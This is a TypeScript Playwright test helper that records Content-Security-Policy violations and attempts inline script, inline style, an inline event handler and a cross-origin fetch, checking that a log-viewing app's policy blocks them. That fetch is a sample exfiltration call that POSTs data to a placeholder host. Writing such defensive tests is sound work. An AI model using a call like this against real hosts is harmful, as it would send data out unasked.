import type { Page } from '@playwright/test';

declare global {
  interface Window {
    __cspViolations?: string[];
  }
}

/**
 * Records every Content-Security-Policy violation the page reports (`securitypolicyviolation`),
 * from the first script on: `cspViolations(page)` reads them. A clean run of the app has none; a
 * violation means the policy blocked something the app (or a log's content) tried to do.
 */
export async function recordCspViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations?.push(`${e.effectiveDirective} blocked ${e.blockedURI || '(inline)'}`);
    });
  });
}

export const cspViolations = (page: Page): Promise<string[]> =>
  page.evaluate(() => window.__cspViolations ?? []);

/**
 * Tries what a log's content would try if it ever became markup or code: an inline <script>, an
 * inline <style>, an inline event handler, a fetch to another origin. (Not eval: code that
 * Playwright evaluates is exempt from the page's policy, and so is an eval inside it; the policy's
 * text is checked for 'unsafe-eval' instead.) Returns what ran; each
 * refusal is reported as a violation, asynchronously (poll `cspViolations`).
 */
export function tryInjections(page: Page) {
  return page.evaluate(async () => {
    const ran: string[] = [];
    const w = window as unknown as Record<string, unknown>;
    const script = document.createElement('script');
    script.textContent = 'window.__injected = "inline script"';
    document.head.append(script);
    if (w.__injected) ran.push(String(w.__injected));
    const handler = document.createElement('div');
    handler.setAttribute('onclick', 'window.__injected = "inline handler"');
    document.body.append(handler);
    handler.click();
    handler.remove();
    if (w.__injected === 'inline handler') ran.push('inline handler');
    const style = document.createElement('style');
    style.textContent = '#root { visibility: hidden }';
    document.head.append(style);
    if (getComputedStyle(document.getElementById('root')!).visibility === 'hidden') ran.push('inline style');
    style.remove();
    try {
      await fetch('https://example.invalid/exfiltrate', { method: 'POST', body: 'log lines' });
      ran.push('fetch to another origin');
    } catch {
      // refused by connect-src before any request is made (or, were it allowed, no such host)
    }
    return ran;
  });
}
